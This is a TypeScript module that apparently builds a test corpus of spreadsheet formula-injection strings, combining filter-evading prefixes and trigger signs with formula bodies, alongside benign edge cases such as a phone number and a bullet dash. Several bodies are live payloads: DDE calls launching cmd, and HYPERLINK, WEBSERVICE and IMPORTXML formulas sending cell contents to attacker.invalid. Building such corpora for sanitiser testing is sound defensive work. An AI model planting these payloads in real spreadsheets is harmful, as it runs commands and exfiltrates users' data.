// Texts that a spreadsheet might run: starts × bodies, with what has been seen to slip past filters before them.
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']
const BEFORE = ['', ' ', '  ', '\u00a0', '\u200b', '\ufeff', "'", "''", '\n', '\u0000']
const BODIES = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://attacker.invalid/?x="&A1,"Bấm vào đây")',
  'WEBSERVICE("http://attacker.invalid/"&A1)',
  'DDE("cmd";"/C calc";"1")',
  '1+1',
  '(1+2)*3',
  'SUM(A1:A9)',
  'IMPORTXML(CONCAT("http://attacker.invalid/",A1),"//a")',
]

/** At least 500, all different. A bare dash is not among them: offices write it for "nothing", and it is read so. */
export const formulaCorpus: readonly string[] = [
  ...new Set(
    BEFORE.flatMap((before) => SIGNS.flatMap((sign) => BODIES.map((body) => `${before}${sign}${body}`))),
  ),
  '+84912345678',
  '-5 độ',
  '@tuyenquang',
  '- gạch đầu dòng thứ nhất',
  '=',
  '+',
  '@',
  '_x003D_1+1',
]
